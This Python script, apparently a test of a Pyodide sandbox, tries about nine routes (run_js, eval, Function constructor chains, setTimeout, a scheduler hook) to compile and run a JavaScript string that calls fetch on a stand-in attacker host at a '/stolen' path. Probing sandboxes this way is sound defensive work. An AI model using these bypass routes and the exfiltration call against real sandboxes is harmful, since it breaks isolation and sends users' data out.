# Tries to compile JavaScript, by every route that leads to a compiler.
import pyodide.code, pyodide.ffi, pyodide_js

scope = await find_global()
CODE = f"fetch('{EVIL}/stolen')"
await attempt("run_js", lambda: pyodide.code.run_js(CODE))
await attempt("eval", lambda: scope.eval(CODE))
await attempt("Function", lambda: scope.Function.new(CODE)())
await attempt("list", lambda: to_js([1]).constructor.constructor(CODE)())
await attempt("JsException", lambda: pyodide.ffi.JsException.constructor.constructor(CODE)())
await attempt("pyodide_js", lambda: pyodide_js.runPython.constructor(CODE)())
await attempt("async", lambda: pyodide_js.loadPackage.constructor(CODE)())
await attempt("setTimeout", lambda: scope.setTimeout(CODE, 1))
await attempt("scheduler", lambda: pyodide_js._api.scheduleCallback(CODE, 10))
await asyncio.sleep(0.3)
print("tried")
